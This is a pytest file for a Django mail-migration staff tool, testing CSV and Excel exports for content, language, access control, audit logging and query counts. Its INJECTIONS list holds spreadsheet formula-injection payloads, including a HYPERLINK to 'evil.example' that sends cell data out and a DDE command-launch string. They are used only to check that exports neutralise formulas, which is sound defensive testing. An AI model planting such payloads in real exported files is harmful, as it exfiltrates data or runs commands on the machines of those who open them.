"""Lists taken out as files: what is in them, for whom, in which language, and never a secret or a formula."""

import csv
import io
from collections.abc import Callable
from datetime import date, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook  # type: ignore[import-untyped]

from migration import spreadsheets
from migration.addresses import domain_to_ascii
from migration.models import Domain, Event, Mailbox, Mailing, Note, Push, TargetLogin
from tests.factories import HASH, make_customer, make_domain, make_first_login, make_mailbox, make_push

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "a;=1+1",
    "a\n=1+1",
]


def content(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def as_csv(response: Any) -> list[dict[str, str]]:
    text = content(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def as_xlsx(response: Any) -> list[dict[str, str]]:
    book = load_workbook(io.BytesIO(content(response)))
    found = []
    for sheet in book.worksheets:
        head, *rows = [["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)]
        found += [dict(zip(head, row, strict=True)) for row in rows]
    return found


READERS = {"csv": as_csv, "xlsx": as_xlsx}


def full_mailbox() -> Mailbox:
    """A mailbox of which everything is known."""
    domain = make_domain(
        domain_to_ascii("bäckerei-müller.example"),
        customer=make_customer(name="Bäckerei Müller"),
        deadline=date(2027, 1, 31),
    )
    mailbox = make_mailbox("joerg", domain=domain, name="Jörg Größe", kind="shared", legacy=HASH)
    make_first_login(mailbox)
    make_push(mailbox, state=Push.State.DELIVERED, delivered_at=timezone.now())
    Mailbox.objects.filter(pk=mailbox.pk).update(source_login_at=timezone.now() - timedelta(days=3))
    TargetLogin.objects.create(mailbox=mailbox, imap_at=timezone.now())
    Note.objects.create(mailbox=mailbox, text="Ruft zurück", written_by="staff:a", follow_up_on=date(2026, 12, 1))
    return mailbox


@pytest.mark.parametrize("kind", READERS)
def test_a_list_holds_what_staff_ask_for(kind: str, support_client: Client) -> None:
    mailbox = full_mailbox()

    (row,) = READERS[kind](
        support_client.get(reverse("desk:export_domain", args=[mailbox.domain_id]), {"format": kind})
    )

    day = f"{timezone.localdate():%Y-%m-%d}"
    assert row["Address"] == "joerg@bäckerei-müller.example"
    assert (row["Name"], row["Kind"], row["State"]) == ("Jörg Größe", "several people", "active on the new server")
    assert row["Remarks"] == "several people"
    for column in ("Last mail", "Password saved", "New password works since", "Last read on the new server"):
        assert row[column].startswith(day), column
    assert row["Last login on the old server"] < day
    assert (row["Deadline"], row["Customer"]) == ("2027-01-31", "Bäckerei Müller")
    assert (row["Domain"], row["Follow up on"]) == ("bäckerei-müller.example", "2026-12-01")
    assert row["Note to follow up"] == "Ruft zurück"


@pytest.mark.parametrize("kind", READERS)
def test_a_list_holds_no_hash_no_secret_and_no_link(kind: str, admin_client_mfa: Client) -> None:
    mailbox = make_mailbox(legacy=HASH)
    first_login, secret = make_first_login(mailbox)
    make_push(mailbox)

    rows = READERS[kind](admin_client_mfa.get(reverse("desk:export"), {"format": kind}))

    said = str(rows)
    assert mailbox.local_part in said
    for forbidden in (secret, first_login.locator, "argon2", "ARGON2", HASH[-20:]):
        assert forbidden not in said


def test_the_list_is_in_the_language_of_who_asks(support_client: Client) -> None:
    mailbox = full_mailbox()
    address = reverse("desk:export_domain", args=[mailbox.domain_id])

    (row,) = as_csv(support_client.get(address, headers={"Accept-Language": "de"}))

    assert row["Adresse"] == "joerg@bäckerei-müller.example"
    assert "mehrere Personen" in row.values()


def test_excel_reads_the_table_as_it_is_in_german(support_client: Client) -> None:
    domain = full_mailbox().domain

    response = support_client.get(reverse("desk:export_domain", args=[domain.pk]))

    whole = content(response)
    assert whole.startswith(b"\xef\xbb\xbfAddress;Name;")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{domain.name}-{timezone.localdate():%Y-%m-%d}.csv"'
    )


@pytest.mark.parametrize("name", INJECTIONS)
def test_no_cell_of_a_table_is_a_formula(name: str, support_client: Client) -> None:
    domain = make_domain(customer=make_customer(name=f"{name} GmbH"))
    make_mailbox("anna", domain=domain, name=name)
    address = reverse("desk:export_domain", args=[domain.pk])

    (as_text,) = as_csv(support_client.get(address))
    book = load_workbook(io.BytesIO(content(support_client.get(address, {"format": "xlsx"}))))

    for cell in as_text.values():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert name in as_text["Name"]
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)


@pytest.mark.parametrize("kind", READERS)
def test_what_narrows_the_page_narrows_the_list(kind: str, support_client: Client) -> None:
    domain = make_domain()
    for local_part, state in (("anna", "imported"), ("bert", "active"), ("berta", "imported")):
        make_mailbox(local_part, domain=domain, state=state)
    make_mailbox("bertold", domain=make_domain())
    address = reverse("desk:export_domain", args=[domain.pk])

    found = READERS[kind](support_client.get(address, {"format": kind, "q": "bert", "state": "imported"}))

    assert [row["Address"].partition("@")[0] for row in found] == ["berta"]


def test_a_customers_list_and_the_whole_one(support_client: Client) -> None:
    customer = make_customer()
    mine = [make_mailbox(domain=make_domain(customer=customer)) for _n in range(2)]
    other = make_mailbox()

    own = as_csv(support_client.get(reverse("desk:export_customer", args=[customer.pk])))
    whole = as_csv(support_client.get(reverse("desk:export")))

    assert {row["Address"] for row in own} == {str(mailbox) for mailbox in mine}
    assert {row["Address"] for row in whole} == {str(mailbox) for mailbox in [*mine, other]}


def test_the_overview_offers_the_whole_list_and_a_customers_beside_him(support_client: Client) -> None:
    domain = make_mailbox().domain

    everybody = support_client.get(reverse("desk:domains")).content.decode()
    one = support_client.get(reverse("desk:domains"), {"customer": domain.customer_id}).content.decode()
    page = support_client.get(
        reverse("desk:domain", args=[domain.pk]), {"state": "imported", "page": "1"}
    ).content.decode()

    assert 'href="/staff/export/?format=csv"' in everybody
    assert f'href="/staff/customers/{domain.customer_id}/export/?format=xlsx"' in one
    assert f'href="/staff/domains/{domain.pk}/export/?state=imported&amp;format=csv"' in page


def test_an_empty_list_has_its_head(support_client: Client) -> None:
    address = reverse("desk:export_domain", args=[make_domain().pk])

    sheet = load_workbook(io.BytesIO(content(support_client.get(address, {"format": "xlsx"})))).active

    assert content(support_client.get(address)).startswith(b"\xef\xbb\xbfAddress;")
    assert (sheet.max_row, sheet["A1"].value) == (1, "Address")


# --- Who, and that it is kept -----------------------------------------------------------------------------------------


def addresses(domain: Domain) -> list[str]:
    numbers = {"export_domain": [domain.pk], "export_customer": [domain.customer_id], "export": []}
    return [reverse(f"desk:{name}", args=args) for name, args in numbers.items()]


@pytest.mark.parametrize("role", ["readonly", "operator"])
def test_who_may_not_take_a_list_out_gets_none(role: str, staff_client: Callable[..., Client]) -> None:
    client, domain = staff_client(role), make_mailbox().domain

    answers = [client.get(address) for address in addresses(domain)]
    page = client.get(reverse("desk:domains")).content.decode()

    assert {answer.status_code for answer in answers} == {403}
    assert not Event.objects.filter(action=Event.Action.EXPORTED).exists()
    assert "/export/" not in page


def test_a_stranger_gets_no_list(client: Client) -> None:
    domain = make_mailbox().domain

    for address in addresses(domain):
        answer = client.get(address)

        assert answer.status_code == 302
        assert "/sign-in/" in answer.headers["Location"]


@pytest.mark.parametrize("kind", READERS)
def test_who_took_what_and_how_many_is_kept(kind: str, support_client: Client) -> None:
    domain = make_domain()
    for _n in range(3):
        make_mailbox(domain=domain)

    content(support_client.get(reverse("desk:export_domain", args=[domain.pk]), {"format": kind, "state": "imported"}))

    event = Event.objects.get(action=Event.Action.EXPORTED)
    assert event.actor.startswith("staff:")
    assert event.domain == domain
    assert event.detail == {"what": "domain", "format": kind, "number": 3, "only": {"state": "imported"}}


def test_an_unknown_format_is_no_page(support_client: Client) -> None:
    assert support_client.get(reverse("desk:export"), {"format": "pdf"}).status_code == 404


# --- How much it takes ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", READERS)
def test_twice_the_mailboxes_take_the_same_queries(kind: str, support_client: Client) -> None:
    domain, counts = make_domain(), []
    support_client.get(reverse("desk:search"))
    for _round in range(2):
        for _n in range(4):
            make_push(make_mailbox(domain=domain))
            make_first_login(make_mailbox(domain=domain))
        with CaptureQueriesContext(connection) as queries:
            content(support_client.get(reverse("desk:export_domain", args=[domain.pk]), {"format": kind}))
        counts.append(len(queries))

    assert counts[0] == counts[1]


def test_a_sheet_that_is_full_goes_on_in_the_next() -> None:
    file = io.BytesIO()

    spreadsheets.write_workbook(file, ["n"], ([str(n)] for n in range(7)), sheet_rows=4)

    book = load_workbook(file)
    assert [[cell[0] for cell in sheet.iter_rows(values_only=True)] for sheet in book.worksheets] == [
        ["n", "0", "1", "2"],
        ["n", "3", "4", "5"],
        ["n", "6"],
    ]


def test_rows_are_taken_one_piece_at_a_time() -> None:
    taken: list[int] = []
    rows = ([str(taken.append(n) or n)] for n in range(100_000))  # type: ignore[func-returns-value]

    answer: Any = spreadsheets.streamed(rows, "x.csv")
    first = next(iter(answer.streaming_content))

    assert first.startswith("\ufeff0".encode())
    assert len(taken) < 1_000


def test_a_mail_that_was_never_sent_has_no_time(support_client: Client) -> None:
    mailbox = make_mailbox()
    make_first_login(mailbox, sent=False)

    (row,) = as_csv(support_client.get(reverse("desk:export_domain", args=[mailbox.domain_id])))

    assert row["Last mail"] == ""
    assert row["Remarks"] == "mail on its way"
    assert Mailing.objects.filter(mailbox=mailbox).exists()
